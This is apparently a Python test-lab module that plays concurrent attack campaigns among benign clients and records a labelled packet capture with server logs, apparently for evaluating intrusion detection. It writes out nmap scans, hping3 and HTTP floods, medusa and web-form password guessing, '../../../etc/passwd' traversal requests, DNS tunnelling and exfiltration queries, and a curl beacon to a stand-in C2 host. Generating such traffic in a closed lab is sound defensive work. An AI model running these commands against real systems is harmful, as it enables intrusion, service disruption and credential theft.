"""Many attacks at once among busy bystanders, each from an address of its own, recorded in one capture with the services' logs.

``NETWORK`` holds scans and floods, ``SERVICES`` what is done to ssh, FTP, web and DNS servers, and a beacon. Attacks run at the
same time, so that an hour's worth of them takes a minute; every tool is bounded in count and time.
"""

from __future__ import annotations

import base64
import random
import shutil
import sys
import threading
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from tests.lab import labels, servers
from tests.lab.attacks import PASSWORDS, USERS, Plan, carry_out
from tests.lab.capture import recording
from tests.lab.clients import Errand, Script, browse, busy_clients, crowd, look_around, monitor, work
from tests.lab.network import DOMAIN, HOSTS, HostSpec, Lab, missing_tools
from tests.lab.record import refuse_names
from tests.lab.servers import serve, ssh_command

SNAPLEN = 512  # whole DNS messages and requests
BEACON_S = 4.5
BEACON_CALLS = 15
_SERVER = "10.77.1.10"
_NET = "10.77.2"  # where the offices are; most of its addresses are nobody's
_NMAP = ("nmap", "-n", "-Pn", "--max-retries", "1", "--host-timeout", "40s")
_C2 = "203.0.113.80"


def attacker(number: int) -> str:
    """The address of attacker ``number``, from 1."""
    return f"203.0.113.{66 + number}"


def video(lab: Lab, rng: random.Random, rounds: int) -> list[Errand]:
    """One stream at a steady rate, piece by piece over one connection each, as players fetch it."""
    piece = ("curl", "-sSf", "--limit-rate", "400k", "-o", "/dev/null", f"http://www.{DOMAIN}/update.bin")
    return [Errand(piece, rng.uniform(0.05, 0.2)) for _ in range(rounds)]


def backup(lab: Lab, rng: random.Random, rounds: int) -> list[Errand]:
    """Bulk over ssh."""
    command = " ".join(ssh_command(lab, "cat > /dev/null"))
    return [Errand(("sh", "-c", f"head -c 3000000 /dev/zero | {command}"), rng.uniform(1, 2)) for _ in range(rounds)]


_PEERS = """
import socket, sys, time
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.bind(("", 6881))
for turn in range(int(sys.argv[1])):
    for peer in range(40):  # most peers of such a network are gone; each listens on a port of its own
        out.sendto(b"d1:ad2:id20:" + bytes(60), (f"203.0.113.{130 + peer}", 20000 + 517 * peer % 40000))
        time.sleep(0.02)
    time.sleep(1)
"""


def peers(lab: Lab, rng: random.Random, rounds: int) -> list[Errand]:
    """A P2P client that asks its peers, nearly all of which have left."""
    return [Errand((sys.executable, "-c", _PEERS, str(rounds)), 0.1, 120.0)]


@dataclass(frozen=True, slots=True)
class Campaign:
    """Attacks that run at the same time, each a number of seconds after the start, and who goes on with his work meanwhile."""

    plans: tuple[tuple[float, Callable[[Lab], Plan]], ...]
    clients: Mapping[str, tuple[Script, int]]
    hosts: tuple[HostSpec, ...]
    servers: tuple[Callable[[Lab], None], ...]
    tools: tuple[str, ...]


def _scan(
    number: int, name: str, *flags: str, targets: tuple[str, ...] = (_SERVER,), protocol: str = "tcp", visible_s: float = 0.0
) -> Callable[[Lab], Plan]:
    return lambda lab: Plan(
        name, "port_scan", name, ((*_NMAP, *flags, *targets),), (attacker(number),), tuple(_hosts(targets)), protocol,  # type: ignore[arg-type]
        None, 45.0, host=f"attacker{number}", visible_s=visible_s,
    )  # fmt: skip


def _hosts(targets: tuple[str, ...]) -> list[str]:
    """The addresses that nmap's targets stand for, ranges of the last part written out."""
    found = []
    for target in targets:
        head, _, last = target.rpartition(".")
        first, _, end = last.partition("-")
        found += [f"{head}.{number}" for number in range(int(first), int(end or first) + 1)]
    return found


def _flood(number: int, name: str, options: tuple[str, ...], protocol: str, port: int | None) -> Callable[[Lab], Plan]:
    command = ("hping3", *options, "-q", "-n", "-c", "3000", "-i", "u1500", _SERVER)
    return lambda lab: Plan(
        name, "dos", name, (command,), (attacker(number),), (_SERVER,), protocol, port, 30.0, (0, 1),  # type: ignore[arg-type]
        host=f"attacker{number}", visible_s=2.0,
    )  # fmt: skip


def _guesses(number: int, service: str, port: int) -> Callable[[Lab], Plan]:
    def plan(lab: Lab) -> Plan:
        home = lab[f"attacker{number}"].directory
        (home / "users").write_text("\n".join(USERS[:5]) + "\n")
        (home / "passwords").write_text("\n".join(PASSWORDS[:6]) + "\n")
        command = ("medusa", "-b", "-h", _SERVER, "-U", "users", "-P", "passwords", "-M", service, "-t", "3")
        name, host = f"{service}-guesses", f"attacker{number}"
        return Plan(
            name, "brute_force", name, (command,), (attacker(number),), (_SERVER,), "tcp", port, 60.0, host=host, visible_s=8.0
        )

    return plan


def _script(
    number: int, kind: str, name: str, script: str, *, port: int, protocol: str = "tcp", visible_s: float = 5.0
) -> Callable[[Lab], Plan]:
    return lambda lab: Plan(
        name, kind, name, (("sh", "-c", script),), (attacker(number),), (_SERVER,), protocol, port, 80.0,  # type: ignore[arg-type]
        host=f"attacker{number}", visible_s=visible_s,
    )  # fmt: skip


def _questions(number: int, kind: str, name: str, *, length: int, count: int, record: str) -> Callable[[Lab], Plan]:
    """dig with a list of names that carry noise in base 32, as tunnels do; new ones each."""

    def plan(lab: Lab) -> Plan:
        rng = random.Random(name)
        lines = []
        for _ in range(count):
            text = base64.b32encode(rng.randbytes(length)).decode().lower().rstrip("=")
            labels_ = [text[start : start + 60] for start in range(0, len(text), 60)]
            lines.append(f"{'.'.join(labels_)}.{name}.{DOMAIN} {record}")
        (lab[f"attacker{number}"].directory / "names").write_text("\n".join(lines) + "\n")
        command = ("dig", f"@{_SERVER}", "+tries=1", "+time=2", "+noall", "-f", "names")
        host = f"attacker{number}"
        return Plan(name, kind, name, (command,), (attacker(number),), (_SERVER,), "udp", 53, 60.0, host=host, visible_s=3.0)  # type: ignore[arg-type]

    return plan


def _beacon(lab: Lab) -> Plan:
    """A bot in the office calls its master on a plain web port."""
    call = f"curl -sS -o /dev/null http://{_C2}:8000/ || true"
    script = f"for n in $(seq {BEACON_CALLS}); do {call}; sleep {BEACON_S}; done"
    return Plan(
        "beacon", "botnet", "beacon", (("sh", "-c", script),), ("10.77.2.31",), (_C2,), "tcp", 8000, 120.0,
        host="bot", visible_s=66.0,
    )  # fmt: skip


def serve_master(lab: Lab) -> None:
    """The bot's master: any web server."""
    folder = lab["master"].directory / "pages"
    folder.mkdir()
    lab.start("master", [sys.executable, "-m", "http.server", "8000", "--directory", str(folder)])


def _attackers(count: int) -> tuple[HostSpec, ...]:
    return tuple(HostSpec(f"attacker{number}", "attacker", attacker(number)) for number in range(1, count + 1))


_BYSTANDERS = tuple(host for host in HOSTS if host.role != "attacker")
_MORE = (HostSpec("office3", "client", "10.77.2.23"), HostSpec("office4", "client", "10.77.2.24"))
_DECOY = "203.0.113.25"  # the customer's

NETWORK = Campaign(
    plans=(
        (1.0, _scan(1, "syn-scan", "-sS", "--max-rate", "300", "--top-ports", "200")),
        (1.0, _scan(2, "connect-scan", "-sT", "--max-rate", "100", "--top-ports", "100")),
        (1.0, _scan(3, "xmas-scan", "-sX", "--max-rate", "100", "--top-ports", "60")),
        (1.0, _scan(4, "udp-scan", "-sU", "--max-rate", "50", "--top-ports", "30")),
        (2.0, _scan(5, "protocol-scan", "-sO", "--max-rate", "30", "-p", "0-60", protocol="ip")),
        (2.0, _scan(6, "sweep", "-sS", "-p", "445", "--max-rate", "30", targets=(f"{_NET}.1-60",), visible_s=2.0)),
        (2.0, _scan(7, "slow-scan", "-sS", "--scan-delay", "400ms", "--top-ports", "30", visible_s=8.0)),
        (6.0, _scan(8, "decoy-scan", "-sS", "--max-rate", "200", "--top-ports", "60", "-D", f"{_DECOY},203.0.113.99,ME")),
        (3.0, _flood(9, "syn-flood", ("-S", "-p", "80"), "tcp", 80)),
        (3.0, _flood(10, "udp-flood", ("--udp", "-p", "53", "-d", "64"), "udp", 53)),
        (3.0, _flood(11, "icmp-flood", ("--icmp", "-d", "56"), "icmp", None)),
    ),
    clients={
        "office1": (browse, 6),
        "office2": (look_around, 6),
        "office3": (monitor, 12),
        "office4": (peers, 8),
        "customer": (work, 3),
    },
    hosts=(*_BYSTANDERS, *_MORE, *_attackers(11)),
    servers=(serve,),
    tools=("nmap", "hping3", "ssh-keyscan"),
)

_PATHS = "for n in $(seq 150); do echo url=http://www.lab.test/x$n; echo output=/dev/null; done > urls; curl -s -K urls"
_FORM = "for n in $(seq 40); do curl -s -o /dev/null -d user=root -d password=$n http://www.lab.test/login; sleep 0.1; done"
_EXPLOITS = "for n in $(seq 12); do curl -s -o /dev/null --path-as-is http://www.lab.test/../../../etc/passwd; sleep 0.1; done"

SERVICES = Campaign(
    plans=(
        (1.0, _guesses(1, "ssh", 22)),
        (1.0, _guesses(2, "ftp", 21)),
        (2.0, _script(3, "brute_force", "form-guesses", _FORM, port=80)),
        (2.0, _script(4, "web_attack", "web-scan", _PATHS, port=80)),
        (2.0, _script(5, "web_attack", "web-exploits", _EXPLOITS, port=80)),
        (8.0, _script(6, "dos", "http-flood", f"ab -q -n 6000 -c 40 http://{_SERVER}/logo.svg", port=80, visible_s=10.0)),
        (
            20.0,
            _script(
                7,
                "dos",
                "slow-http",
                f"slowhttptest -c 80 -H -g -o slow -i 3 -r 40 -l 14 -p 3 -u http://{_SERVER}/",
                port=80,
                visible_s=5.0,
            ),
        ),
        (3.0, _questions(8, "dns_tunnel", "tunnel", length=28, count=60, record="TXT")),
        (3.0, _questions(9, "exfiltration", "exfil", length=90, count=60, record="A")),
        (0.5, _beacon),
    ),
    clients={
        "office1": (browse, 14),
        "office2": (look_around, 12),
        "office3": (crowd, 3),
        "office4": (video, 20),
        "customer": (work, 8),
        "keeper": (backup, 6),
    },
    hosts=(
        *(*_BYSTANDERS, *_MORE, HostSpec("keeper", "client", "10.77.2.25"), *_attackers(9)),
        *(HostSpec("bot", "attacker", "10.77.2.31"), HostSpec("master", "attacker", _C2)),
    ),
    servers=(serve, servers.serve_ftp, serve_master),
    tools=("medusa", "ab", "slowhttptest", "vsftpd", "dig"),
)


@dataclass(frozen=True, slots=True)
class Recorded:
    """What a campaign left: the capture, its labels with each attack's ``visible_us``, and the services' logs by name."""

    capture: Path
    labels: dict[str, object]
    logs: dict[str, Path]


def play(name: str, campaign: Campaign, out: Path, *, seed: int = 1) -> Recorded:
    """Carry a campaign out in a new lab and keep what it left in ``out``.

    Raises:
        LabError: a program is missing, a tool or a bystander failed, or the recording has holes.
    """
    path = out / f"{name}.pcap"
    with Lab(campaign.hosts) as lab:
        for start in campaign.servers:
            start(lab)
        plans = [(at_s, make(lab)) for at_s, make in campaign.plans]
        with recording(lab, path, snaplen=SNAPLEN), busy_clients(lab, seed=seed, scripts=campaign.clients) as failed:
            began = time.monotonic()

            def carry(at_s: float, plan: Plan) -> labels.Truth:
                _wait(failed, began + at_s)
                return carry_out(lab, plan)

            with ThreadPoolExecutor(max_workers=len(plans)) as pool:
                truths = list(pool.map(lambda each: carry(*each), plans))
        refuse_names(path)
        described = labels.describe(lab, path, truths, scenario=name, snaplen=SNAPLEN)
        by_name = {plan.name: plan for _, plan in plans}
        for attack in described["attacks"]:  # type: ignore[attr-defined]
            attack["visible_us"] = attack["first_us"] + round(by_name[attack["name"]].visible_s * 1e6)
        kept = {log: Path(shutil.copy(found, out / log)) for log, found in servers.logs(lab).items()}
    return Recorded(path, described, kept)


def missing(campaign: Campaign) -> list[str]:
    """The programs that a campaign needs and that are not installed."""
    return missing_tools({"tcpdump", "curl", "dig", "ping", *servers.NEEDED, *campaign.tools})


def _wait(failed: threading.Event, until: float) -> None:
    failed.wait(max(0.0, until - time.monotonic()))
